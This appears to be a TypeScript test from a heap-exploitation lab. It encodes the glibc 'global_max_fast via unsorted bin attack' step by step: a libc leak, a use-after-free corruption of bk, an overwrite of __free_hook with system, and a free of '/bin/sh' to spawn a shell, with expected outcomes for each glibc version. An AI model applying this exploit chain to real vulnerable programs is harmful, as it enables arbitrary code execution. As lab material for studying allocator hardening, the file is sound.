/**
 * global_max_fast overwrite by an unsorted bin attack, end to end (glibc 2.23-2.28): the attack
 * writes the unsorted bin's address (a large libc address) into `global_max_fast`, so every
 * chunk counts as "fast". Freeing a chunk of the right size then stores it in
 * `fastbinsY[idx]` far past the array: exactly at `__free_hook`. A use after free puts `system`
 * in that chunk's fd, and the malloc that takes the chunk back from its "fastbin" writes the fd
 * into the bin's head, `__free_hook`. Freeing "/bin/sh" runs system. From 2.29 the unsorted
 * bin's list check stops the attack at its first malloc.
 */

import assert from "node:assert/strict";
import { type Lab, on, technique } from "./support.ts";

technique({
  name: "global_max_fast via unsorted_bin_attack",
  claim: "free() runs system",
  arches: ["x86_64"],
  outcomes: {
    "2.23": { shell: "/bin/sh", via: "__free_hook", in: "free" },
    "2.27": { shell: "/bin/sh", via: "__free_hook", in: "free" },
    ...on(["2.31", "2.35", "2.36", "2.39", "2.41"], {
      aborts: "malloc(): unsorted double linked list corrupted",
      in: "malloc",
    }),
  },
  run(lab: Lab) {
    const h = lab.heap, sz = lab.sz;
    const base = lab.leakLibcBase();
    const maxFast = base + lab.libcOffset("global_max_fast");
    const hook = base + lab.libcOffset("__free_hook");
    const fastbins = base + lab.libcOffset("main_arena") + lab.profile.arena.fastbins;
    // the chunk size whose fastbin index lands on __free_hook
    const size = ((hook - fastbins) / sz + 2) * 16;
    const big = h.malloc(size - 16);
    h.malloc(0x20);
    const binsh = h.malloc(0x20);
    lab.writeString(binsh, "/bin/sh");
    const p = h.malloc(0x420); // past the tcache
    h.malloc(0x20);
    h.free(p);
    lab.vulnerability();
    lab.setWord(p, 1, maxFast - 2 * sz); // use after free: p->bk
    assert.equal(h.malloc(0x420), p);
    assert.equal(lab.read(maxFast), h.mainArena + lab.profile.arena.top, "global_max_fast");
    h.free(big); // a "fast" chunk: fastbinsY[idx] is __free_hook
    assert.equal(lab.read(hook), lab.chunk(big));
    lab.write(big, base + lab.libcOffset("system")); // use after free: big->fd
    assert.equal(h.malloc(size - 16), big);
    assert.equal(lab.read(hook), base + lab.libcOffset("system"));
    h.free(binsh);
  },
});
